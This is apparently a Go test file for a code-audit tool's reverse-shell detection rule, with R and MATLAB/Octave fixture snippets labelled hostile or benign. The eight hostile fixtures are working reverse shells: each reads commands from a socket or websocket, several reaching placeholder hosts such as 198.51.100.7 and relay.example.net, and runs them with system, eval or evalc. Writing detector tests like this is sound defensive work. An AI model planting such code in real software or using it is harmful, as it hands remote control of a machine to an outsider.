package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestRMatlabSocketRun: an R or MATLAB/Octave program that connects a
// socket (or listens on one), reads what the other end sends and runs it
// with system, system2, eval(parse(text = ...)), evalc, eval or a Java
// Runtime exec is a reverse shell however the text travels (through a
// handler function, a loop variable, a field of a parsed message, lapply
// by name, a websocket's onMessage): critical. A socket only to the
// loopback address (a local editor bridge; R's socketConnection without
// a host is localhost), a fixed command run beside a socket, a command
// that does not come from the socket and a run written only in a comment
// are not findings.
func TestRMatlabSocketRun(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	checkRule(t, "reverse-shell", map[string]systemCase{
		"hostile/r-make-socket-eval-parse": {map[string]string{"R/remote.R": "attach_console <- function(h = Sys.getenv(\"CONSOLE_HOST\", \"198.51.100.7\")) {\n  s <- make.socket(h, 5000)\n  repeat {\n    src <- read.socket(s)\n    if (!nzchar(src)) break\n    res <- capture.output(try(eval(parse(text = src)), silent = TRUE))\n    write.socket(s, paste(c(res, \"\"), collapse = \"\\n\"))\n  }\n}\n"}, crit},
		"hostile/r-lapply-handler-system2": {map[string]string{"R/sync.R": "run_one <- function(x) {\n  parts <- strsplit(x, \" \", fixed = TRUE)[[1]]\n  system2(parts[1], parts[-1], stdout = TRUE)\n}\n\nsync_once <- function(cfg) {\n  con <- socketConnection(host = cfg$host, port = cfg$port, open = \"r+\", blocking = TRUE)\n  on.exit(close(con))\n  jobs <- readLines(con, n = 20)\n  outs <- lapply(jobs, run_one)\n  writeLines(unlist(outs), con)\n}\n"}, crit},
		"hostile/r-server-socket-accept":   {map[string]string{"inst/agent.R": "srv <- serverSocket(7711)\nwhile (TRUE) {\n  con <- socketAccept(srv, blocking = TRUE, open = \"r+\")\n  line <- readLines(con, n = 1)\n  out <- system(line, intern = TRUE)\n  writeLines(out, con)\n  close(con)\n}\n"}, crit},
		"hostile/r-websocket-onmessage":    {map[string]string{"R/live.R": "start_live <- function() {\n  ws <- websocket::WebSocket$new(\"wss://relay.example.net/live\")\n  ws$onMessage(function(event) {\n    msg <- jsonlite::fromJSON(event$data)\n    ws$send(paste(system(msg$run, intern = TRUE), collapse = \"\\n\"))\n  })\n  invisible(ws)\n}\n"}, crit},
		"hostile/matlab-java-socket":       {map[string]string{"+lab/link.m": "function link(host)\n% LINK keep the lab session linked\ns = java.net.Socket(host, 4444);\nin = java.io.BufferedReader(java.io.InputStreamReader(s.getInputStream()));\nout = java.io.PrintWriter(s.getOutputStream(), true);\nwhile true\n    cmd = char(in.readLine());\n    [~, r] = system(cmd);\n    out.println(r);\nend\nend\n"}, crit},
		"hostile/octave-socket-recv-evalc": {map[string]string{"tools/relay.m": "pkg load sockets\ns = socket(AF_INET, SOCK_STREAM, 0);\nconnect(s, struct(\"addr\", \"198.51.100.7\", \"port\", 9001));\nwhile true\n  [data, n] = recv(s, 4096);\n  if n <= 0, break; end\n  out = evalc(char(data));\n  send(s, out);\nend\n"}, crit},
		"hostile/matlab-tcpip-fgetl-eval":  {map[string]string{"bridge.m": "host = getenv('BRIDGE_HOST');\nt = tcpip(host, 5000);\nfopen(t);\nwhile strcmp(t.Status, 'open')\n    cmdline = fgetl(t);\n    A = magic(3)'; % transpose, not a string\n    eval(cmdline);\nend\n"}, crit},
		"hostile/matlab-local-function":    {map[string]string{"sync.m": "function sync()\nc = tcpclient(\"relay.example.net\", 7000);\nwhile c.NumBytesAvailable >= 0\n    handle(c, readline(c));\n    pause(1);\nend\nend\n\nfunction handle(c, msg)\n[status, out] = dos(msg);\nwriteline(c, out);\nend\n"}, crit},
		"benign/r-local-worker":            {map[string]string{"R/worker.R": "# a worker for the editor plugin on this machine\ncon <- socketConnection(port = 6011, open = \"r+\", blocking = TRUE)\nrepeat {\n  job <- readLines(con, n = 1)\n  if (!length(job)) break\n  writeLines(system(job, intern = TRUE), con)\n}\n"}, none},
		"benign/r-socket-fixed-command":    {map[string]string{"R/watch.R": "con <- socketConnection(\"build.example.org\", 9000, open = \"r\")\nrepeat {\n  status <- readLines(con, n = 1)\n  if (identical(status, \"rebuild\")) system(\"make all\")\n  Sys.sleep(5)\n}\n"}, none},
		"benign/r-command-not-from-socket": {map[string]string{"R/report.R": "cmd <- getOption(\"report.render\", \"quarto render report.qmd\")\ncon <- socketConnection(\"metrics.example.org\", 2003, open = \"r+\")\nstats <- readLines(con, n = 10)\nwriteLines(paste(\"seen\", length(stats)), con)\nsystem(cmd)\n# system(readLines(con)) would run what arrives: not done\n"}, none},
		"benign/matlab-instrument":         {map[string]string{"measure.m": "t = tcpclient(\"192.168.1.50\", 5025);\nconfigureTerminator(t, \"LF\");\nwriteline(t, \"*IDN?\");\nid = readline(t);\nfprintf(\"instrument: %s\\n\", id);\nwriteline(t, \"MEAS:VOLT?\");\nv = str2double(readline(t));\nname = 'volts';\neval([name ' = v;']);\n% eval(readline(t)) is never done: replies are data\nsystem('mkdir -p results');\n"}, none},
		"benign/matlab-localhost-bridge":   {map[string]string{"startup.m": "c = tcpclient(\"localhost\", 4000);\nwhile true\n    code = readline(c);\n    writeline(c, evalc(code));\nend\n"}, none},
	})
}
